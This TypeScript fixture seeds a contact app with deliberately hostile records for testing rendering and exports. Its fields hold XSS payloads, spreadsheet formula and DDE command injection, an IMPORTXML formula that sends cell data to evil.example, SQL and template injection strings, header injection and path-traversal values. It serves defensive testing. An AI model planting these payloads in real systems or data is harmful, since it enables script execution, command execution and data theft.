import { CONTACT_VALUE_FIELDS, isHumanTimeField } from './contact-fields';
import type { ContactFields } from './contact-fields';

/**
 * Records a hostile or careless spreadsheet could upload, placed in the large workspace so that
 * every screen and export meets them. Each one overrides some fields of an otherwise ordinary
 * contact; all are findable by searching for their email domain, hostile.example.
 */
const SCRIPT = '<script>alert(1)</script>';
const IMG = '<img src=x onerror=alert(1)>';
const LONG_NOTE = 'Call notes: '
  .concat('Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(200))
  .slice(0, 10_000);

const allNull = (email: string): Partial<ContactFields> => {
  const fields: Partial<ContactFields> = {};
  // The moments stay the ordinary contact's: Mailstand itself always has them.
  for (const code of CONTACT_VALUE_FIELDS) if (!isHumanTimeField(code)) fields[code] = null;
  return { ...fields, email };
};

export const HOSTILE_CONTACTS: readonly Partial<ContactFields>[] = [
  {
    email: 'script.tag@hostile.example',
    first_name: SCRIPT,
    full_name: `${SCRIPT} Smith`,
    personal_note_1: `Loves ${SCRIPT} and more`,
  },
  {
    email: 'img.onerror@hostile.example',
    last_name: IMG,
    full_name: `Ada ${IMG}`,
    personal_note_2: IMG,
    title: '<b>Bold</b> <i>CEO</i>',
  },
  {
    email: 'svg.onload@hostile.example',
    first_name: '<svg onload=alert(1)>',
    company_name: '<iframe src="javascript:alert(1)"></iframe>',
    personal_note_1: '<a href="javascript:alert(1)">click me</a>',
  },
  {
    email: 'closing.script@hostile.example',
    full_name: '</script><script>alert(document.domain)</script>',
    personal_note_3: '"><script>alert(1)</script>',
    city: "'; alert(1); //",
  },
  {
    email: 'js.links@hostile.example',
    linkedin: 'javascript:alert(1)',
    twitter: 'JaVaScRiPt:alert(document.cookie)',
    website_1: ' javascript:alert(1)',
    website_2: 'java\tscript:alert(1)',
  },
  {
    email: 'data.links@hostile.example',
    linkedin: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    twitter: 'data:text/html,<script>alert(1)</script>',
    website_1: 'vbscript:msgbox(1)',
    website_3: 'data:image/svg+xml,<svg onload=alert(1)>',
  },
  {
    email: 'odd.links@hostile.example',
    linkedin: '//evil.example/phish',
    stack_overflow: 'http://evil.example/\u202Egnp.exe',
    website_1: 'https://evil.example@bank.example/login',
    website_2: 'file:///etc/passwd',
  },
  {
    email: 'formula.hyperlink@hostile.example',
    company_name: '=HYPERLINK("http://evil.example","x")',
    personal_note_1: '=1+1',
  },
  {
    email: 'formula.at@hostile.example',
    company_name: '@SUM(1+1)',
    personal_note_1: "@SUM(1+1)*cmd|' /C calc'!A0",
  },
  {
    email: 'formula.plus@hostile.example',
    company_name: "+cmd|' /C calc'!A0",
    personal_note_2: '+1+1',
    lead_score: '=2+5',
  },
  {
    email: 'formula.minus@hostile.example',
    company_name: "-2+3+cmd|' /C notepad'!A0",
    personal_note_1: '-10',
    title: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  },
  {
    email: 'formula.whitespace@hostile.example',
    company_name: '\t=1+1',
    personal_note_1: '\r=1+1',
    personal_note_2: ' =cmd',
  },
  {
    email: 'arabic.name@hostile.example',
    first_name: 'محمد',
    last_name: 'عبد الله',
    full_name: 'محمد عبد الله',
    company_name: 'شركة المثال',
    city: 'دبي',
  },
  {
    email: 'hebrew.name@hostile.example',
    first_name: 'דוד',
    last_name: 'כהן',
    full_name: 'דוד כהן',
    personal_note_1: 'שלום, this line mixes עברית and English',
  },
  {
    email: 'rtl.override@hostile.example',
    full_name: 'Invoice \u202Efdp.exe\u202C Smith',
    first_name: '\u202Eevil',
    company_name: '\u202Bmixed\u202C direction',
  },
  {
    email: 'emoji.name@hostile.example',
    first_name: '🦄',
    last_name: 'Unicorn 👩🏽‍💻',
    full_name: '🦄 Unicorn 👩🏽‍💻',
    company_name: '🚀 Rocket Labs 🔥',
    personal_note_1: '👍🏿👨‍👩‍👧‍👦🏳️‍🌈',
  },
  {
    email: 'zalgo.text@hostile.example',
    full_name: 'Z̷̢̛a̴̡͝l̵̨̛g̶̢̛o̷̧͠ Text',
    first_name: 'Z̷̢̛a̴̡͝l̵̨̛g̶̢̛o̷̧͠',
    personal_note_1: 'a\u200Bb\u200Cc\u200Dd\uFEFFe',
  },
  {
    email: 'long.notes@hostile.example',
    personal_note_1: LONG_NOTE,
    personal_note_2: LONG_NOTE,
    personal_note_3: LONG_NOTE,
  },
  {
    email: 'long.unbroken@hostile.example',
    company_name: 'W'.repeat(500),
    full_name: 'Supercalifragilisticexpialidocious'.repeat(8),
    address_1: 'x'.repeat(300),
  },
  allNull('all.null@hostile.example'),
  {
    ...allNull(''),
    email: 'empty.strings@hostile.example',
    full_name: '',
    first_name: '',
    last_name: '',
  },
  {
    email: 'sql.injection@hostile.example',
    full_name: "Robert'); DROP TABLE contacts;--",
    company_name: "' OR '1'='1",
    personal_note_1: '1; DELETE FROM memberships WHERE 1=1',
  },
  {
    email: 'template.injection@hostile.example',
    full_name: '{{7*7}} ${7*7} <%= 7*7 %>',
    company_name: '{{constructor.constructor("alert(1)")()}}',
    personal_note_1: '#{7*7}',
  },
  {
    email: 'newlines@hostile.example',
    full_name: 'Line\nBreak\r\nName',
    address_1: '1 Main St\n\nSuite 2',
    personal_note_1: 'Set-Cookie: x=1\r\nLocation: http://evil.example',
  },
  {
    email: 'quotes"and\'apostrophes@hostile.example',
    full_name: 'Conan "The Hammer" O\'Brien',
    company_name: '"Quoted, Inc."',
    personal_note_1: 'a,b;c\td"e',
  },
  {
    email: 'html.entities@hostile.example',
    full_name: '&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#x3C;script&#x3E;',
    company_name: 'AT&T <Wireless>',
  },
  {
    email: 'css.injection@hostile.example',
    company_name: 'x" style="background:url(javascript:alert(1))',
    personal_note_1: '<style>*{display:none}</style>',
    title: 'expression(alert(1))',
  },
  {
    email: 'bad.values@hostile.example',
    timezone: 'Not/A_Zone',
    job_start_date: '13/45/2020',
    graduation_date: 'not a date',
    lead_score: 'ninety',
    zip: '-0',
  },
  {
    email: 'huge.values@hostile.example',
    lead_score: '99999999999999999999',
    zip: '0000000000000000000000000000000000000000',
    timezone: 'Etc/GMT+14',
  },
  {
    email: 'UPPER.Case@HOSTILE.EXAMPLE',
    full_name: 'UPPER CASE DOMAIN',
    personal_note_1: 'Search must find this one case-insensitively.',
  },
  {
    email: 'prototype@hostile.example',
    first_name: '__proto__',
    last_name: 'constructor',
    full_name: '__proto__ constructor',
    company_name: 'toString',
  },
  {
    email: 'percent%and_underscore@hostile.example',
    full_name: '100% _wild_ %s %d %n',
    personal_note_1: '%00%0d%0a%3Cscript%3E',
  },
  {
    email: 'backslashes@hostile.example',
    full_name: 'C:\\Users\\admin\\..\\..\\',
    personal_note_1: '\\u003cscript\\u003e',
    website_1: 'https://example.com/%2e%2e/%2e%2e/etc/passwd',
  },
  {
    email: 'mixed.attack@hostile.example',
    full_name: `=HYPERLINK("javascript:alert(1)","${SCRIPT}")`,
    linkedin: 'javascript://%0aalert(1)',
    personal_note_1: `${IMG}\n=1+1\n\u202E`,
  },
  {
    email: `${'very.long.local.part.'.repeat(10)}end@hostile.example`,
    full_name: 'Long Email Address',
  },
  {
    email: 'control.chars@hostile.example',
    full_name: 'Bell\u0007 Back\u0008space Esc\u001b[31mred',
    personal_note_1: 'del\u007f and nbsp\u00a0here',
  },
];
